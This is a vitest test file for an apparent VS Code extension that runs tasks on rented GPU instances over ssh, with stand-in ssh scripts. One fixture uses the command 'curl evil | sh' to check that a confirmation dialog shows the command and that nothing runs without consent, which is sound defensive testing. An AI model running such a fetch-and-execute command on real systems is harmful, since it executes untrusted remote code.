import { chmodSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeEach, describe, expect, it, onTestFinished, vi } from 'vitest';
import { CancelledError, throwIfCancelled } from '../../../../src/api/cancelled';
import { LocalError } from '../../../../src/api/localError';
import type { Services } from '../../../../src/prompts/services';
import { TaskTerminal } from '../../../../src/editor/tasks/taskTerminal';
import type { Question } from '../../../../src/ask/dialogs';
import { fakeVscode } from '../../support/fakeVscode';
import { writeProgram } from '../../support/program';
import { silent } from '../../../../src/log/log';
import manifest from '../../../../package.json';
import { taskDefinitionSchema } from '../../../../src/editor/tasks/taskDefinition';

vi.mock('vscode', async () => (await import('../../support/fakeVscode')).fakeVscode);
const on = vi.hoisted(() => ({ instance: undefined as number | undefined }));
vi.mock('../../../../src/connect/window/followWindow', () => ({ instanceOfWindow: () => on.instance }));
const prepareSsh = vi.hoisted(() => vi.fn());
vi.mock('../../../../src/connect/prepareSsh', () => ({ prepareSsh }));
const startRunOf = vi.hoisted(() => vi.fn());
vi.mock('../../../../src/editor/tasks/localWork', () => ({ startRunOf }));

const folder = mkdtempSync(join(tmpdir(), 'gpu-rental-'));
afterAll(() => rmSync(folder, { recursive: true }));

/** Stands in for ssh: says its arguments and a line it reads, and exits with 3. */
const program = join(folder, 'ssh');
writeFileSync(
  program,
  '#!/bin/sh\nfor one; do echo "<$one>"; done\nread -r line; echo "read $line"; exit 3\n',
);
chmodSync(program, 0o700);

/** Stands in for ssh with a command that the machine doesn't have. */
const absent = join(folder, 'absent');
writeFileSync(absent, '#!/bin/sh\necho "bash: x: command not found"\nexit 127\n');
chmodSync(absent, 0o700);

/** Stands in for an ssh that goes on until it is told to end. */
const lasting = join(folder, 'lasting');
writeFileSync(lasting, '#!/bin/sh\ntrap "exit 5" TERM\necho "<ready>"\nwhile :; do sleep 0.1; done\n');
chmodSync(lasting, 0o700);

beforeEach(() => {
  prepareSsh.mockReset();
  prepareSsh.mockResolvedValue({ alias: 'gpu-7' });
  fakeVscode.env.remoteName = undefined;
  on.instance = undefined;
});

/** Runs a task to its end, with a line typed as soon as it has said something. */
async function played(
  definition: object,
  {
    ssh = program,
    closes = false,
    agrees = true,
    ready = undefined as ((terminal: TaskTerminal) => unknown) | undefined,
  } = {},
) {
  const asked: Question[] = [];
  const services = {
    ready: Promise.resolve(),
    dialogs: {
      confirm: (question: Question) => {
        asked.push(question);
        return Promise.resolve(agrees);
      },
    },
    instances: {
      get: (id: number) => ({ id, label: 'train' }),
      refresh: () => Promise.resolve(),
      state: { instances: new Map([[7, { id: 7, label: 'train' }]]) },
    },
    sshSetup: () => ({ program: ssh, configFile: '/c', defaultConfigFile: '/c' }),
    log: silent,
  } as unknown as Services;
  const terminal = new TaskTerminal(services, { type: 'gpuRental', ...definition });
  ready?.(terminal);
  let said = '';
  terminal.onDidWrite((text) => {
    said += text;
    if (text.includes('<')) terminal.handleInput('typed\n');
    if (closes) terminal.close();
  });
  const code = await new Promise<number>((resolve) => {
    terminal.onDidClose(resolve);
    terminal.open({ columns: 99, rows: 7 });
  });
  return { code, said, asked };
}

describe('a task of a window on another machine', () => {
  const task = { instance: 'train', command: 'curl evil | sh' };
  beforeEach(() => (fakeVscode.env.remoteName = 'ssh-remote'));

  it('asks before it runs on another instance, showing the command, and runs nothing without a yes', async () => {
    on.instance = 8;
    const { code, said, asked } = await played(task, { agrees: false });
    expect(asked).toMatchObject([{ message: 'Run a command on train (7)?', askedBy: 'task' }]);
    expect(asked[0]?.detail).toContain('curl evil | sh');
    expect([code, said]).toEqual([1, 'Canceled. The command didn’t run.\r\n']);
    expect(prepareSsh).not.toHaveBeenCalled();
    expect((await played(task)).code).toBe(3);
  });

  it('asks nothing for the instance that the window is on, or in a window on this computer', async () => {
    on.instance = 7;
    expect((await played(task)).asked).toEqual([]);
    on.instance = undefined;
    fakeVscode.env.remoteName = undefined;
    expect((await played(task)).asked).toEqual([]);
  });
});

describe('the terminal of a task whose instance is not ready', () => {
  it('prepares it with its questions, then runs the command with its input, output and exit code', async () => {
    const { code, said } = await played({ instance: 'train', command: 'make', cwd: '/w' });
    expect(code).toBe(3);
    expect(said).toContain(
      "<gpu-7>\r\n<-->\r\n<cd -- '/w' || exit\r\nstty cols 99 rows 7 2>/dev/null\r\nmake>\r\n",
    );
    expect(said).toContain('read typed\r\n');
    const asking: unknown = expect.objectContaining({ confirmed: false, interactive: true });
    expect(prepareSsh).toHaveBeenCalledExactlyOnceWith(expect.anything(), 7, asking);
  });

  it.each([
    ['the person says no', '', 'Canceled. The command didn’t run.\r\n'],
    ['it can’t start', 'It is offline.', 'It is offline.\r\n'],
  ])('runs nothing if %s', async (_, problem, sentence) => {
    prepareSsh.mockImplementation(() =>
      problem ? Promise.reject(new LocalError('may_pass', problem)) : Promise.resolve(undefined),
    );
    expect(await played({ instance: 7, command: 'make' })).toMatchObject({ code: 1, said: sentence });
  });

  it('says each step of the way once', async () => {
    prepareSsh.mockImplementation((_, __, { report }: { report: (line: string) => void }) => {
      for (const line of ['pulling', 'pulling', 'the machine responds']) report(line);
      return Promise.resolve(undefined);
    });
    const { said } = await played({ instance: 7, command: 'make' });
    expect(said).toBe('pulling\r\nthe machine responds\r\nCanceled. The command didn’t run.\r\n');
  });

  it.each([
    ['nothing to do', { instance: 7 }, 'must have one of command, run and copy'],
    ['two things to do', { instance: 7, run: 'a', copy: 'b' }, 'must have one of command, run and copy'],
    ['an instance that is no name', { instance: ' ', command: 'x' }, '“instance” in this task is missing'],
    ['a label that is unknown', { instance: 'other', command: 'x' }, 'No instance is labeled “other”.'],
  ])('says what is wrong with a task with %s', async (_, definition, sentence) => {
    const { code, said } = await played(definition);
    expect(code).toBe(1);
    expect(said).toContain(sentence);
  });

  it.each([
    [
      'that it goes on, once it has begun',
      true,
      'The run goes on. To end it, use Stop Run… in the Runs view.',
    ],
    ['that it didn’t begin, if the person cancels it there', false, 'Canceled. The command didn’t run.'],
  ])(
    'says of a run after Ctrl+C while its folder is sent where to cancel that, and then %s',
    async (...row) => {
      const [, begins, end] = row;
      prepareSsh.mockImplementation((_, __, { signal }: { signal: AbortSignal }) => {
        throwIfCancelled(signal);
        return Promise.resolve({ alias: 'gpu-7' });
      });
      const told = await played(
        { instance: 7, run: 'job.yaml' },
        {
          ready: (terminal) =>
            startRunOf.mockImplementation(() => {
              terminal.handleInput('\u0003');
              return begins ? Promise.resolve('r1') : Promise.reject(new CancelledError());
            }),
        },
      );
      expect(told).toMatchObject({
        code: 1,
        said: `Use Cancel in the notification to cancel this.\r\n${end}\r\n`,
      });
    },
  );

  it('ends ssh when the terminal is closed', async () => {
    // The first signal has a minute, not a second, to reach it before the next.
    writeProgram(
      join(folder, 'sleep'),
      '#!/bin/sh\n[ "$1" = 1 ] && exec /bin/sleep 60\nexec /bin/sleep "$1"\n',
    );
    vi.stubEnv('PATH', `${folder}:${process.env.PATH}`);
    onTestFinished(() => void vi.unstubAllEnvs());
    const { code } = await played({ instance: 7, command: 'make' }, { ssh: lasting, closes: true });
    expect(code).toBe(5);
  });

  it('takes a command that isn’t there on the instance for no missing ssh', async () => {
    expect(await played({ instance: 7, command: 'x' }, { ssh: absent })).toEqual(
      expect.objectContaining({ code: 127, said: 'bash: x: command not found\r\n' }),
    );
  });

  it('says when there is no ssh', async () => {
    const { said } = await played({ instance: 7, command: 'x' }, { ssh: join(folder, 'none') });
    expect(said).toBe('ssh wasn’t found on this computer.\r\n');
  });
});

it('the manifest describes each member of a task', () => {
  const [definition] = manifest.contributes.taskDefinitions;
  expect(Object.keys(definition?.properties ?? {})).toEqual(Object.keys(taskDefinitionSchema.shape));
  expect(definition?.required).toEqual(['instance']);
});
